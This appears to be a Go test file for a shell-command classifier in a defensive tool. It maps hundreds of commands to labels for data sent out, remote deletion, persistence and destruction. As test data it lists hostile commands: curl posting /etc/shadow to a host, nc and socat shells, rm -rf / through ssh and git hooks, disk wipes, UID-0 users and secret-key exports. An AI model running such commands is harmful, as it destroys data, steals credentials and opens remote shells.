package programs_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"github.com/vedette-dev/vedette/sentinel/touch/programs"
)

// families are lines of the clients, clouds, clusters, databases, version
// control, packages, administration, disks and secrets. Behind "=>" stands what
// the program does with its words: its row, then the pieces that matter.
const families = `
# network
curl -d @/etc/shadow https://a.example  =>  curl | file r sent </etc/shadow> | url <https://a.example> | change remote_change
curl -sSL -o out.txt https://a.example/x  =>  curl | file w <out.txt> | url <https://a.example/x>
curl -T f https://a.example  =>  curl | file r sent <f> | url <https://a.example> | change remote_change
curl -X DELETE https://a.example/1  =>  curl | url <https://a.example/1> | change remote_removal
curl --request=DELETE https://a.example/1  =>  curl | url <https://a.example/1> | change remote_removal
curl -XPOST https://a.example -H 'A: b'  =>  curl | body <A: b> | url <https://a.example> | change remote_change
curl -G -d x=1 https://a.example  =>  curl | body <x=1> | url <https://a.example>
curl -F x=@f https://a.example  =>  curl | file r sent <f> | url <https://a.example> | change remote_change
curl --data-urlencode x@f https://a.example  =>  curl | file r sent <f> | url <https://a.example> | change remote_change
curl -d @- https://a.example  =>  curl | url <https://a.example> | input leaves | change remote_change
curl -K f https://a.example  =>  curl | script urls <f> | url <https://a.example>
curl -X DELETE http://es:9200/index  =>  curl | url <http://es:9200/index> | change remote_removal | doubt database_destroy
curl --resolve a:80:1.2.3.4 https://a.example  =>  curl | host <a:80:1.2.3.4> | url <https://a.example>
wget -qO- https://a.example  =>  wget | url <https://a.example>
wget --post-file=f https://a.example  =>  wget | file r sent <f> | url <https://a.example> | change remote_change
wget -e use_askpass=/x https://a.example  =>  wget | line </x> | url <https://a.example>
wget -i f  =>  wget | script urls <f>
http POST a.example x=@f  =>  http | url <a.example> | file r sent <f> | input leaves | change remote_change | change remote_change
http DELETE a.example/1  =>  http | url <a.example/1> | input leaves | change remote_removal
ssh -i k host ls -la  =>  ssh | file r client <k> | host <host> | line <ls -la> | input leaves
ssh -o 'ProxyCommand=nc x 1' host  =>  ssh | line <nc x 1> | host <host> | input leaves
ssh -p 22 host 'rm -rf /'  =>  ssh | host <host> | line <rm -rf /> | input leaves
ssh host  =>  ssh | host <host> | input runs sh
scp f host:  =>  scp | file r sent <f> | host <host:> | change remote_change
scp -r host:/x .  =>  scp | host <host:/x> | file w tree <.>
rsync -a x/ host:/x  =>  rsync | file r tree sent <x/> | host <host:/x> | change remote_change
rsync -a --delete x/ y/  =>  rsync | file r tree <x/> | file d tree only_core <y/>
rsync -avz -e 'ssh -p 1' x y  =>  rsync | line <ssh -p 1> | file r tree <x> | file w <y>
rsync --rsync-path 'rm -rf /' a h:b  =>  rsync | line <rm -rf /> | file r sent <a> | host <h:b> | change remote_change
rsync -n --delete a b  =>  rsync | file r <a> | file d tree only_core <b> | rehearsal
rsync --remove-source-files a b  =>  rsync | file rd <a> | file w <b>
nc -l 99 -e sh  =>  nc | line <sh> | input leaves
nc host 1  =>  nc | host <host> | input leaves
socat TCP:host:80 EXEC:sh  =>  socat | host <host:80> | line <sh> | input leaves
sftp -b f host  =>  sftp | script sftp <f> | host <host> | change remote_change
lftp -c 'rm -r x' h  =>  lftp | code sftp <rm -r x> | url <h> | change remote_change
smbclient //h/s -c 'put f'  =>  smbclient | code sftp <put f> | host <//h/s> | change remote_change
pdsh -w h rm -rf /  =>  pdsh | line <rm -rf />
croc send f  =>  croc | file r tree sent <f> | change remote_change
nmap -sV a.example  =>  nmap | host <a.example>
tcpdump -i eth0 -w f  =>  tcpdump | file w <f>
miniserve x  =>  miniserve | file r tree <x>
rclone copy x r:y  =>  rclone copy | file r tree sent <x> | host <r:y> | change remote_change
rclone sync x r:y  =>  rclone sync | file r tree sent <x> | host <r:y> | change remote_removal
rclone purge r:y  =>  rclone purge | host tree <r:y> | change remote_removal | doubt cloud_destroy
rclone ls r:  =>  rclone ls | host names <r:> | reads

# mail
mail -s x a@b.example  =>  mail | input leaves | change remote_change
mail -s x -a f a@b.example  =>  mail | file r sent <f> | input leaves | change remote_change
sendmail -t  =>  sendmail | input leaves | change remote_change
mutt -s x -a f -- a@b.example  =>  mutt | file r sent <f> | input leaves | change remote_change
swaks --to a@b.example --attach f  =>  swaks | file r sent <f> | input leaves | change remote_change

# clouds
aws s3 cp f s3://b/k  =>  aws s3 cp | file r sent <f> | url <s3://b/k> | change remote_change
aws s3 cp s3://b/k .  =>  aws s3 cp | url <s3://b/k> | file w <.>
aws s3 sync . s3://b --delete
    =>  aws s3 sync | file r tree sent <.> | url <s3://b> | change remote_change | change remote_removal | doubt cloud_destroy
aws s3 rm --recursive s3://b/x  =>  aws s3 rm | url <s3://b/x> | change remote_removal | doubt cloud_destroy
aws s3 rm s3://b/k  =>  aws s3 rm | url <s3://b/k> | change remote_removal
aws s3 rb s3://b --force  =>  aws s3 rb | url <s3://b> | change remote_removal | doubt cloud_destroy
aws s3 ls  =>  aws s3 ls | reads
aws --region x rds delete-db-instance --db-instance-identifier d  =>  aws | change remote_removal | doubt cloud_destroy
aws ec2 terminate-instances --dry-run  =>  aws | change remote_removal | doubt cloud_destroy | rehearsal
aws ec2 describe-instances  =>  aws | reads
aws ec2 run-instances  =>  aws | change remote_change
aws configure export-credentials  =>  aws configure | file r <~/.aws/credentials> | environment
aws secretsmanager get-secret-value --secret-id x  =>  aws | environment | token | reads
aws s3api delete-bucket --bucket b  =>  aws | change remote_removal | doubt cloud_destroy
gcloud -q projects delete p  =>  gcloud | change remote_removal | doubt cloud_destroy
gcloud projects list  =>  gcloud | reads
gcloud compute instances delete x --zone z  =>  gcloud compute | change remote_removal | doubt cloud_destroy
gcloud compute ssh vm --command 'rm -rf /'  =>  gcloud compute ssh | line <rm -rf /> | host <vm> | input leaves
gcloud run deploy x  =>  gcloud | change remote_change
gcloud auth print-access-token  =>  gcloud | environment | token
az group delete -n g  =>  az | change remote_removal | doubt cloud_destroy
az vm list  =>  az vm | reads
az vm delete -n x  =>  az vm | change remote_removal | doubt cloud_destroy
az vm run-command invoke --scripts ls  =>  az vm run-command | line <ls> | change remote_change | change remote_change
doctl compute droplet delete x  =>  doctl compute | change remote_removal | doubt cloud_destroy
hcloud server delete x  =>  hcloud server | change remote_removal | doubt cloud_destroy
terraform plan -destroy  =>  terraform plan | reads
terraform plan -out=p  =>  terraform plan | file w <p> | reads
terraform apply  =>  terraform apply | change remote_change
terraform apply -destroy  =>  terraform apply | change remote_change | change remote_removal | doubt cloud_destroy
terraform destroy  =>  terraform destroy | change remote_removal | doubt cloud_destroy
terraform --help destroy  =>  terraform destroy | change remote_removal | doubt cloud_destroy | rehearsal
terraform -chdir=x apply -destroy  =>  terraform apply | folder <x> | change remote_change | change remote_removal | doubt cloud_destroy
terraform state rm x  =>  terraform state | change remote_removal | doubt cloud_destroy
terragrunt run-all apply  =>  terragrunt run-all apply | change remote_change
tofu init  =>  tofu
pulumi destroy -y  =>  pulumi destroy | change remote_removal | doubt cloud_destroy
pulumi preview  =>  pulumi preview | reads
heroku apps:destroy x  =>  heroku | change remote_removal | doubt cloud_destroy
heroku run rm -rf /  =>  heroku run | line <rm -rf /> | input leaves
heroku config  =>  heroku | environment
fly apps destroy x  =>  fly | change remote_removal | doubt cloud_destroy | doubt cloud_destroy
gsutil rm -r gs://b  =>  gsutil rm | url <gs://b> | change remote_removal | doubt cloud_destroy
wrangler d1 delete x  =>  wrangler | change remote_removal | doubt cloud_destroy | doubt cloud_destroy
supabase db reset  =>  supabase | change remote_change | doubt cloud_destroy
railway up  =>  railway | change remote_change

# containers
docker run --rm -v /srv/x:/x a ls  =>  docker run | file rw tree </srv/x> | command box <ls> | input leaves | change container_change
docker run -it --privileged -v /:/h img rm -rf /h
    =>  docker run | file rw tree </> | command box <rm -rf /h> | input leaves | change container_change | doubt opaque_command
docker run -d -p 80:80 --name web -e A=b nginx  =>  docker run | input leaves | change container_change
docker run --rm -it -v $PWD:/src -w /src node:20 npm test
    =>  docker run | file rw tree <$PWD> | command box <npm test> | input leaves | change container_change
docker exec -it c sh -c 'rm -rf /data'  =>  docker exec | command box <sh -c rm -rf /data> | input leaves | change container_change
docker ps  =>  docker ps | reads
docker images  =>  docker images | reads
docker logs c  =>  docker logs | reads
docker build -t x .  =>  docker build | file r tree <.> | change container_change
docker buildx build --push -t x .  =>  docker buildx build | file r tree <.> | change container_change | change remote_change
docker rm c  =>  docker rm | change container_removal
docker volume rm v  =>  docker volume | change container_removal | doubt volume_destroy
docker volume ls  =>  docker volume | reads
docker system prune -af  =>  docker system | change container_removal | doubt volume_destroy
docker compose up -d  =>  docker compose | change container_change
docker compose down  =>  docker compose down | change container_removal
docker compose down -v  =>  docker compose down | change container_removal | doubt volume_destroy
docker-compose down --volumes  =>  docker-compose down | change container_removal | doubt volume_destroy
docker compose exec -T db psql  =>  docker compose exec | command box <psql> | input leaves | change container_change
docker push x  =>  docker push | host <x> | change container_change | change remote_change
docker cp c:/x .  =>  docker cp | host <c:/x> | file w <.> | change container_change
docker login -u x --password-stdin r.example  =>  docker login | host <r.example> | change container_change
podman unshare rm -rf /  =>  podman unshare | command <rm -rf />
nerdctl image prune  =>  nerdctl image | change container_removal
kubectl get pods -n x  =>  kubectl get | reads
kubectl --context=prod -n x get pods  =>  kubectl get | reads
kubectl delete pod x  =>  kubectl delete | change remote_removal
kubectl delete ns x  =>  kubectl delete | change remote_removal | doubt cloud_destroy
kubectl -n prod delete ns prod  =>  kubectl delete | change remote_removal | doubt cloud_destroy
kubectl delete ns x --dry-run=client  =>  kubectl delete | change remote_removal | doubt cloud_destroy | rehearsal
kubectl delete ns x --dry-run=none  =>  kubectl delete | change remote_removal | doubt cloud_destroy
kubectl exec p -- rm -rf /  =>  kubectl exec | command box <rm -rf /> | input leaves | change remote_change
kubectl exec p -c c ls /  =>  kubectl exec | command box <ls /> | input leaves | change remote_change
kubectl apply -f x  =>  kubectl apply | file r <x> | input leaves | change remote_change
kubectl apply -f -  =>  kubectl apply | input runs manifest | change remote_change
kubectl logs x  =>  kubectl logs | reads
kubectl rollout status deploy/x  =>  kubectl rollout | reads
kubectl rollout restart deploy/x  =>  kubectl rollout | change remote_change
kubectl config view --raw  =>  kubectl config | file r <~/.kube/config> | environment | reads
kubectl cp p:/x .  =>  kubectl cp | host <p:/x> | file w <.> | change remote_change
kubectl cp f p:/x  =>  kubectl cp | file r sent <f> | host <p:/x> | change remote_change
kubectl drain n  =>  kubectl drain | change remote_removal | doubt cloud_destroy
kubectl debug node/n -- chroot /host rm -rf /  =>  kubectl debug | command <chroot /host rm -rf /> | change remote_change
kubectl foo delete x  =>  kubectl | doubt cloud_destroy | change remote_removal
helm list  =>  helm list | reads
helm uninstall x  =>  helm uninstall | change remote_removal | doubt cloud_destroy
helm upgrade x y -f values.yaml  =>  helm upgrade | file r <values.yaml> | change remote_change
argocd app sync x  =>  argocd | change remote_change
velero backup delete x  =>  velero | doubt cloud_destroy | change remote_removal | doubt cloud_destroy
nomad system gc  =>  nomad system gc | doubt cloud_destroy | change remote_removal
vagrant destroy -f  =>  vagrant | doubt volume_destroy | change system_removal
vagrant ssh -c ls  =>  vagrant ssh | line <ls> | input leaves
virsh undefine x  =>  virsh | doubt volume_destroy | change system_removal
qemu-img convert -O raw a.qcow2 /dev/sdb  =>  qemu-img convert | file r <a.qcow2> | file w device_write </dev/sdb>
multipass delete x  =>  multipass | doubt volume_destroy | change system_removal
lxc exec c -- rm -rf /  =>  lxc exec | command box <rm -rf /> | input leaves

# databases
psql -c 'drop table t'  =>  psql | code psql <drop table t>
psql -h db -U u -f f.sql app  =>  psql | script psql <f.sql>
psql  =>  psql | input runs psql
psql --command='select 1' db  =>  psql | code psql <select 1>
mysql -uroot -psecret db  =>  mysql | input runs mysql
mysql --execute='x' db  =>  mysql | code mysql <x>
mysqladmin -u root drop db  =>  mysqladmin | doubt database_destroy | change database_change
sqlite3 f 'delete from t'  =>  sqlite3 | file rw <f> | code sqlite <delete from t>
sqlite3 -cmd '.shell x' f  =>  sqlite3 | code sqlite <.shell x> | file rw <f>
redis-cli -n 1 FLUSHDB  =>  redis-cli | line redis <FLUSHDB> | change database_change
redis-cli get a  =>  redis-cli | line redis <get a>
redis-cli set a 1  =>  redis-cli | line redis <set a 1> | change database_change
mongosh --eval 'db.dropDatabase()'  =>  mongosh | code mongo <db.dropDatabase()>
mongosh mongodb://h/x f.js  =>  mongosh | script mongo <f.js>
dropdb x  =>  dropdb | change database_change | doubt database_destroy
dropdb --help  =>  dropdb | change database_change | rehearsal
pg_restore -c -d x f  =>  pg_restore | file r <f> | change database_change | doubt database_destroy
pg_restore -l f  =>  pg_restore | file r <f>
etcdctl del --prefix /  =>  etcdctl | change database_change | doubt database_destroy
etcdctl get a  =>  etcdctl | reads
consul kv delete -recurse a  =>  consul | change database_change | doubt database_destroy
nats stream purge S  =>  nats | doubt database_destroy | change database_change
rabbitmqctl purge_queue q  =>  rabbitmqctl | doubt database_destroy | change database_change
rabbitmqctl list_queues  =>  rabbitmqctl | reads
kafka-topics.sh --bootstrap-server b --delete --topic t  =>  kafka-topics* | doubt database_destroy | change database_change
kafka-topics --list --bootstrap-server b  =>  kafka-topics* | reads
rake db:drop  =>  rake | doubt database_destroy | change database_change
php artisan db:wipe  =>  php *artisan | doubt database_destroy | change database_change
python3 ./manage.py flush --noinput  =>  python3 *manage.py | doubt database_destroy | change database_change
alembic downgrade base  =>  alembic | change database_change | doubt database_destroy
alembic upgrade head  =>  alembic | change database_change
prisma migrate reset  =>  prisma | doubt database_destroy | change database_change
flyway info  =>  flyway | reads
restic forget --prune  =>  restic forget | doubt backup_destroy | change remote_removal
restic backup x  =>  restic backup | file r tree <x> | input leaves
restic forget --dry-run x  =>  restic forget | doubt backup_destroy | change remote_removal | rehearsal
restic snapshots  =>  restic snapshots | reads
borg delete r::a  =>  borg delete | doubt backup_destroy | change remote_removal
borg list  =>  borg list | reads
duplicity remove-older-than 6M s3://b  =>  duplicity | doubt backup_destroy | change remote_removal
vssadmin delete shadows /all  =>  vssadmin | doubt backup_destroy | change remote_removal
mongorestore --drop d  =>  mongorestore | file r <d> | change database_change | doubt database_destroy
bq query 'select 1'  =>  bq query | code sql <select 1>
cockroach sql -e 'drop database x'  =>  cockroach sql | code sql <drop database x>

# version control
git push origin main  =>  git push | file r names <origin> | change remote_change
git push -f origin main  =>  git push | file r names <origin> | change remote_removal
git push origin :x  =>  git push | file r names <origin> | change remote_removal
git push origin +main  =>  git push | file r names <origin> | change remote_removal
git push --dry-run  =>  git push | change remote_change | rehearsal
git push https://tok@github.com/a/b main  =>  git push | url names <https://tok@github.com/a/b> | change remote_change | doubt secret_sent
git push --receive-pack='rm -rf /' x  =>  git push | line <rm -rf /> | file r names <x> | change remote_change
git status  =>  git status | reads
git log --oneline -5  =>  git log | reads
git show HEAD:x  =>  git show | file r <x> | reads
git branch  =>  git branch | reads
git branch x  =>  git branch | change history_change
git branch -D x  =>  git branch | change history_removal
git tag -l  =>  git tag | reads
git tag v1  =>  git tag | change history_change
git stash list  =>  git stash | reads
git stash drop  =>  git stash | change history_removal
git reset --hard  =>  git reset | change history_removal
git reset HEAD~1  =>  git reset | change history_change
git clean -fdx  =>  git clean | change history_removal | here
git clean -n  =>  git clean | change history_removal | rehearsal
git -C / clean -fdx  =>  git clean | folder </> | change history_removal | here
git rm -r --cached x  =>  git rm | change history_removal
git rm -rf x  =>  git rm | file d tree <x> | change history_removal
git add -A  =>  git add | file r tree <.> | change history_change
git add .  =>  git add | file r tree <.> | change history_change
git commit -am 'drop table'  =>  git commit | change history_change
git clone https://a.example/x d  =>  git clone | url names <https://a.example/x> | file w <d> | change history_change
git clone -c core.sshCommand=/x u  =>  git clone | line </x> | file r names <u> | change history_change
git -c alias.x='!rm -rf /' x  =>  git | line <rm -rf />
git -c core.pager=less log  =>  git log | line <less> | reads
git -c user.name=x commit -m y  =>  git commit | change history_change
git config --global core.hooksPath /tmp/x  =>  git config | doubt persistence | change history_change
git config alias.st '!sh x'  =>  git config | doubt persistence | change history_change
git config alias.st status  =>  git config | change history_change
git config user.name x  =>  git config | change history_change
git config --get user.name  =>  git config | reads
git remote -v  =>  git remote | reads
git submodule foreach 'rm -rf x'  =>  git submodule foreach | line <rm -rf x>
git bisect run ./t.sh  =>  git bisect run | command <./t.sh>
git rebase -x 'make test' main  =>  git rebase | line <make test> | change history_change
git filter-branch --tree-filter 'rm -rf /' HEAD  =>  git filter-branch | line <rm -rf /> | change history_removal
git worktree remove --force d  =>  git worktree remove | file d tree <d> | change history_removal
git credential fill  =>  git credential | file r <~/.git-credentials> | environment
git ls-remote ext::sh  =>  git ls-remote | host names <ext::sh> | doubt opaque_command
git difftool -x 'rm -rf /'  =>  git difftool | line <rm -rf />
git fetch --upload-pack='rm -rf /' x  =>  git fetch | line <rm -rf /> | file r names <x> | change history_change
gh pr view 3  =>  gh pr view | reads
gh pr merge 3  =>  gh pr merge | input leaves | change remote_change
gh repo delete a/b  =>  gh repo | doubt cloud_destroy | change remote_removal
gh release delete v1  =>  gh release | doubt cloud_destroy | change remote_removal
gh api repos/a/b  =>  gh api | reads
gh api -X DELETE repos/a/b  =>  gh api | change remote_removal | doubt cloud_destroy
gh api -X PATCH repos/a/b -f x=1  =>  gh api | body <x=1> | change remote_change
gh issue create --title delete  =>  gh issue create | input leaves | change remote_change
gh gist create f  =>  gh gist | file r sent <f> | input leaves | change remote_change
gh auth token  =>  gh auth | environment | token
gh codespace ssh -- rm -rf x  =>  gh codespace ssh | line <rm -rf x> | input leaves
gh alias set x '!sh'  =>  gh alias | change system_change | doubt persistence
glab mr list  =>  glab | reads
glab mr delete 3  =>  glab | doubt cloud_destroy | change remote_removal
hg push  =>  hg push | change remote_change
hg --config alias.x='!rm -rf /' x  =>  hg | line <rm -rf />
svn delete https://a/x -m y
    =>  svn delete | url tree <https://a/x> | change history_removal | change remote_removal | doubt cloud_destroy
jj git push  =>  jj git push | change remote_change
jj log  =>  jj log | reads

# packages
apt install x  =>  apt | change system_change
apt install ./x.deb  =>  apt | file r <./x.deb> | change system_change
apt-get -y upgrade  =>  apt-get | change system_change
apt purge x  =>  apt | change system_removal
apt list  =>  apt | reads
apt-get install -o DPkg::Pre-Invoke::='rm -rf /' x  =>  apt-get | line <rm -rf /> | change system_change
dpkg -i x.deb  =>  dpkg | file r <x.deb> | change system_change
dpkg -r x  =>  dpkg | change system_removal
dpkg --purge --force-all x  =>  dpkg | change system_removal | doubt unknown_target
rpm -e x  =>  rpm | change system_removal
rpm -qa  =>  rpm | reads
rpm -e --nodeps x  =>  rpm | change system_removal | doubt unknown_target
pacman -Syu  =>  pacman | change system_change
pacman -Rdd x  =>  pacman | change system_removal | doubt unknown_target
pacman -Q  =>  pacman | reads
brew install x  =>  brew | change system_change
brew list  =>  brew | reads
pip install -r requirements.txt  =>  pip install | file r <requirements.txt> | change system_change
pip uninstall -y x  =>  pip uninstall | change system_removal
pip list  =>  pip list | reads
gem yank x -v 1  =>  gem | change remote_removal | doubt cloud_destroy
gem push x.gem  =>  gem push | file r sent <x.gem> | change remote_change
snap remove x  =>  snap | change system_removal
composer require x  =>  composer require | change system_change

# administration
systemctl stop nginx  =>  systemctl | change system_change
systemctl status x  =>  systemctl | reads
systemctl enable /etc/systemd/system/x.service
    =>  systemctl | file rx </etc/systemd/system/x.service> | change system_change | doubt persistence
service x stop  =>  service | change system_change
service x status  =>  service | reads
reboot  =>  reboot | change system_change
useradd x  =>  useradd | change system_change
useradd -o -u 0 x  =>  useradd | change system_change | doubt persistence
usermod -aG sudo x  =>  usermod | change system_change | doubt persistence
usermod -aG docker x  =>  usermod | change system_change
passwd -d x  =>  passwd | change system_change | doubt persistence
userdel -r x  =>  userdel | change system_removal | doubt unknown_target
iptables -F  =>  iptables | change system_change
iptables -L -n  =>  iptables | reads
sysctl -w a=1  =>  sysctl | change system_change
sysctl a  =>  sysctl | reads
crontab f  =>  crontab | file r <f> | input runs crontab | doubt persistence | change system_change
crontab -r  =>  crontab | change system_removal | doubt persistence
crontab -  =>  crontab | input runs crontab | doubt persistence | change system_change
at now  =>  at | input runs sh | change system_change
ip link set eth0 down  =>  ip | change system_change
ip -s link  =>  ip | reads
ip a  =>  ip | reads
ip netns exec n rm -rf /  =>  ip netns exec | command <rm -rf />
ufw allow 22  =>  ufw | change system_change
journalctl -u x -n 50  =>  journalctl | reads
journalctl --vacuum-time=1d  =>  journalctl | change system_removal
pkill x  =>  pkill | process <x> | change process_change
pkill -9 -u root  =>  pkill | change process_change | danger kill_all
killall -l  =>  killall | reads
fuser -km /home  =>  fuser | file r names kill_all </home> | change process_change
getent shadow  =>  getent | file r </etc/shadow> | environment | reads
getent hosts a  =>  getent | host <a> | reads
stress-ng --fork 0  =>  stress-ng | change process_change | danger fork_bomb
stress-ng --fork 4 -t 10  =>  stress-ng | change process_change
mount  =>  mount | reads
mount --bind /dev x/dev  =>  mount | file r names </dev> | file w <x/dev> | change system_change
ansible all -m ping  =>  ansible
ansible all -m file -a 'path=/ state=absent'  =>  ansible | line ansible <path=/ state=absent> | change remote_change
salt '*' cmd.run 'rm -rf /'  =>  salt | line <rm -rf /> | change remote_change
salt '*' file.remove /  =>  salt | file d tree </> | change remote_change

# disks
dd if=/dev/zero of=/dev/sda bs=1M  =>  dd | file r </dev/zero> | file w </dev/sda>
dc3dd wipe=/dev/sdb  =>  dc3dd | file w </dev/sdb>
ddrescue -f /dev/zero /dev/sdb  =>  ddrescue | file r </dev/zero> | file w </dev/sdb>
mkfs.ext4 /dev/sdb1  =>  mkfs.ext4 | file w mkfs </dev/sdb1>
mkfs.ext4 -n /dev/sda1  =>  mkfs.ext4 | file w mkfs </dev/sda1> | rehearsal
mkfs.ext4 -E lazy_itable_init=0 -L data disk.img  =>  mkfs.ext4 | file w mkfs <disk.img>
mkfs.xfs -d name=/dev/sdb  =>  mkfs.xfs | file w mkfs </dev/sdb>
mkfs.vfat -F 32 /tmp/esp.img  =>  mkfs.vfat | file w mkfs </tmp/esp.img>
mkfs.btrfs /dev/sda /dev/sdb  =>  mkfs.btrfs | file w mkfs </dev/sda> | file w mkfs </dev/sdb>
wipefs --all /dev/sdb  =>  wipefs | file w </dev/sdb>
wipefs -n -a /dev/sda  =>  wipefs | file w </dev/sda> | rehearsal
wipefs /dev/sda  =>  wipefs | file r names </dev/sda> | reads
sgdisk -Z /dev/sdb  =>  sgdisk | file w </dev/sdb>
sgdisk -p /dev/sda  =>  sgdisk | file r names </dev/sda> | reads
sfdisk /dev/sdb  =>  sfdisk | file w </dev/sdb>
sfdisk -l /dev/sda  =>  sfdisk | file r names </dev/sda> | reads
fdisk -l  =>  fdisk | reads
parted -s /dev/sda mklabel gpt  =>  parted | file w </dev/sda> | change system_change
parted /dev/sda print  =>  parted | file r names </dev/sda> | reads
hdparm --write-sector 0 /dev/sdb  =>  hdparm | file w </dev/sdb>
hdparm -I /dev/sda  =>  hdparm | file r names </dev/sda>
nvme format /dev/nvme0  =>  nvme | file w </dev/nvme0> | change system_change
nvme list  =>  nvme | reads
mdadm --create /dev/md0 --level=1 --raid-devices=2 /dev/sda1 /dev/sdb1
    =>  mdadm | file w </dev/md0> | file w </dev/sda1> | file w </dev/sdb1>
mdadm --detail /dev/md0  =>  mdadm | file r names </dev/md0> | reads
badblocks -w /dev/sda  =>  badblocks | file w </dev/sda>
cryptsetup erase /dev/sdb2  =>  cryptsetup | danger volume_destroy
cryptsetup status x  =>  cryptsetup | reads
lvremove -f vg/x  =>  lvremove | change system_removal | danger volume_destroy
lvremove vg/x  =>  lvremove | change system_removal | doubt volume_removal
zpool create -f tank /dev/sdb  =>  zpool create | file w volume_destroy </dev/sdb> | change system_change
zpool create -n tank /dev/sdb  =>  zpool create | file w volume_destroy </dev/sdb> | change system_change | rehearsal
zpool status  =>  zpool | reads
zfs destroy -r tank/x  =>  zfs destroy | change system_removal | danger volume_destroy
zfs destroy tank/x  =>  zfs destroy | change system_removal | doubt volume_removal
btrfs sub del /mnt/x  =>  btrfs subvolume delete | file d tree </mnt/x> | change system_removal
btrfs subvolume list /  =>  btrfs subvolume | reads
smartctl -a /dev/sda  =>  smartctl | file r names </dev/sda> | reads
lsblk /dev/sda  =>  lsblk | file r names </dev/sda> | reads
flashrom -p internal -E  =>  flashrom | danger device_write
flashrom -p internal -r old.bin  =>  flashrom | file w <old.bin>
debugfs -w -R 'clri <2>' /dev/sdb1  =>  debugfs | file w </dev/sdb1>
debugfs -R stat /dev/sda1  =>  debugfs | file r names </dev/sda1>
dmsetup wipe_table x  =>  dmsetup | danger device_write
fastboot erase x  =>  fastboot | doubt volume_destroy
adb shell rm -rf /  =>  adb shell | line <rm -rf /> | input leaves

# secrets
gpg --export-secret-keys -a  =>  gpg | file r tree <~/.gnupg/private-keys-v1.d> | environment
gpg --delete-secret-keys x  =>  gpg | doubt key_destroy
gpg -d f.gpg  =>  gpg | file r <f.gpg>
gpg --send-keys x  =>  gpg | change remote_change
openssl s_client -connect a.example:443  =>  openssl s_client | host <a.example:443> | input leaves
openssl enc -aes-256-cbc -in f -out g -pass file:p  =>  openssl enc | file r <f> | file w <g> | file r client <p>
openssl x509 -in c.pem -noout -text  =>  openssl x509 | file r <c.pem>
ssh-keygen -lf k.pub  =>  ssh-keygen | file r <k.pub> | reads
ssh-add k  =>  ssh-add | file r client <k>
vault delete secret/x  =>  vault | doubt cloud_destroy | change remote_removal
vault kv get secret/x  =>  vault | environment
vault status  =>  vault | reads
pass show x  =>  pass | file r tree <~/.password-store> | environment | token
pass  =>  pass | reads
pass rm x  =>  pass | doubt key_destroy
op read op://x/y  =>  op | environment | token | reads
op item delete x  =>  op | doubt cloud_destroy | change remote_change
op run -- rm -rf x  =>  op run | command <rm -rf x>
aws-vault exec p -- rm -rf x  =>  aws-vault exec | command <rm -rf x>
age -d -i k f  =>  age | file r client <k> | file r <f>
keytool -delete -alias x -keystore k  =>  keytool | file rw <k> | doubt key_destroy | change system_change
secret-tool lookup a b  =>  secret-tool | file r tree <~/.local/share/keyrings> | environment | token
security find-generic-password -w -s x  =>  security | file r tree <~/Library/Keychains> | environment

# platforms
reg delete 'HKLM\SYSTEM' /f  =>  reg | change system_removal | danger rm_system
reg add 'HKCU\Software\Microsoft\Windows\CurrentVersion\Run' /v x /d y  =>  reg | change system_change | doubt persistence
reg query HKLM  =>  reg | reads
del /s /q x  =>  del | file d tree <x>
format c: /y  =>  format | file w mkfs <c:>
icacls 'C:\' /reset /T  =>  icacls | file w tree names chmod_tree <C:\>
takeown /f 'C:\' /r /d y  =>  takeown | file w tree names chown_tree <C:\>
Remove-Item -Recurse -Force /x  =>  remove-item | file d tree </x>
ri /x -rec -fo  =>  ri | file d tree </x>
Format-Volume -DriveLetter C  =>  format-volume | danger mkfs
Get-ChildItem x  =>  get-childitem | file r <x> | reads
robocopy a b /mir  =>  robocopy | file r tree <a> | file d tree only_core <b>
net user x /add  =>  net | change system_change | doubt persistence
diskutil eraseDisk JHFS+ X disk2  =>  diskutil | danger device_write
diskutil list  =>  diskutil | reads
tmutil delete /x  =>  tmutil | doubt backup_destroy | change system_removal
launchctl load x.plist  =>  launchctl | file rx <x.plist> | doubt persistence | change system_change
defaults read x  =>  defaults | reads
`

func TestFamilies(t *testing.T) {
	n := 0
	for text := range strings.SplitSeq(strings.ReplaceAll(families, "\n    =>", "  =>"), "\n") {
		line, want, ok := strings.Cut(text, "  =>  ")
		if !ok {
			require.True(t, text == "" || strings.HasPrefix(text, "# "), "no line with what it does: %q", text)
			continue
		}
		n++
		name, args := splitWords(line)
		require.Equal(t, want, describeUse(args, programs.ReadWords(name, args)), line)
	}
	require.Greater(t, n, 300)
}

// describeUse writes a use as families has it.
func describeUse(args []programs.Word, u programs.Use) string {
	if u.Reads {
		return spellUse(args, u) + " | reads"
	}
	return spellUse(args, u)
}

// What talks to another machine by its nature says so, and what doesn't does not.
func TestNetworkPrograms(t *testing.T) {
	for line, want := range map[string]bool{
		"curl https://a.example": true, "ssh h": true, "aws s3 ls": true, "kubectl get pods": true,
		"git push": true, "psql": true, "mail a@b.example": true, "rsync a h:b": true,
		"rsync h:a b": true, "rsync a b": false, "git status": false, "docker ps": false,
		"docker push x": true, "dd if=a of=b": false, "gpg -d f": false, "gpg --send-keys x": true,
		"openssl dgst f": false, "openssl s_client -connect a:1": true, "terraform plan": true, "systemctl status x": false,
	} {
		name, args := splitWords(line)
		require.Equal(t, want, programs.ReadWords(name, args).Network, line)
	}
}
